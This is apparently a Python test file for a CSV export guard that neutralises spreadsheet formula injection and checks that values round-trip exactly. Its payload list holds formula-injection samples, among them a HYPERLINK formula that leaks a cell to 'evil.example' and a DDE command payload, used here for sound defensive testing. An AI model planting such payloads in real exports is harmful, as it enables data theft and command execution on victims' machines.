"""Formula neutralisation: no exported cell starts a formula, and the round trip is exact."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from rallyorg.exchange.csv_reading import read_table
from rallyorg.exchange.safe_csv import csv_bytes, needs_guard, neutralise, restore

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "+12035550123",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u00a0=1+1",
    "'=1+1",
    "''=1+1",
    "'",
    "''",
    "'plain",
    "=",
    "-",
    "O'Brien",
    "a=b",
    "José = Pepe",
    "",
    "plain",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_no_exported_cell_starts_a_formula_and_reading_back_is_exact() -> None:
    data = csv_bytes(["Payload", "=Header"], [[p, p] for p in PAYLOADS])
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, so Excel shows accents
    text = data.decode("utf-8-sig")
    assert all(line.startswith('"') for line in text.split("\r\n") if line)  # every field quoted
    rows = _cells(data)
    for cell in (c for row in rows for c in row):
        assert not cell.startswith(FORMULA_STARTS), cell
        assert not cell.lstrip(" \u00a0").startswith(FORMULA_STARTS), cell
    assert [restore(h) for h in rows[0]] == ["Payload", "=Header"]
    assert [[restore(c) for c in row] for row in rows[1:]] == [[p, p] for p in PAYLOADS]


def test_rallyorgs_own_reader_restores_the_values() -> None:
    data = csv_bytes(["Payload"], [[p] for p in PAYLOADS if p.strip()])
    table = read_table(data)
    assert [restore(r.cells[0]) for r in table.records] == [p for p in PAYLOADS if p.strip()]


def test_the_guard_is_only_added_when_needed() -> None:
    assert neutralise("Ana") == "Ana"
    assert neutralise("=1") == "'=1"
    assert neutralise("'x") == "''x"
    assert restore("'x") == "'x"  # not something we write: left as it is
    assert not needs_guard("(203) 555-0123")


@given(st.text())
def test_round_trip_for_any_text(value: str) -> None:
    guarded = neutralise(value)
    assert restore(guarded) == value
    assert not guarded.startswith(FORMULA_STARTS)
    assert not guarded.lstrip(" \u00a0\u3000").startswith(FORMULA_STARTS)
